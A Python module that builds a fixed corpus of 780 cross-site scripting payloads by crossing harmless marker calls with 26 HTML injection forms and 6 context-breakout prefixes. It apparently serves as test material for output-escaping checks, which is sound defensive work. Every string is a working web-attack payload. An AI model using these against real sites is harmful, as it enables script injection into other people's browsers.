"""XSS payloads, generated from a few grammars: a page that does not escape them runs them."""

from itertools import product

_CODE = ("xss()", "xss``", "alert(1)", "window['x'+'ss']()", "top.xss()")
_WRAPPED = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}//",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    '<iframe src="javascript:parent.{}">',
    '<object data="javascript:{}">',
    "<math><mtext></p><img src=x onerror={}>",
    '<a href="javascript:{}" autofocus onfocus="{}">x</a>',
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<form><button formaction="javascript:{}">x',
    '<div hx-on:load="{}" hx-get="/x" hx-trigger="load">',
    "<div hx-vals='js:{{a: {}}}' hx-get='/x' hx-trigger='load'>",
    "<template><img src=x onerror={}></template><marquee onstart={}>x",
)
_PREFIXES = ("", "\"'>", "</td></tr></table>", "</pre>-->", "]]></script>", "{{{{7*7}}}}")


def hostile_texts():
    """Return the corpus, the same each time: 780 texts."""
    return [
        prefix.replace("{{{{", "{{").replace("}}}}", "}}") + form.replace("{}", code)
        for prefix, form, code in product(_PREFIXES, _WRAPPED, _CODE)
    ]
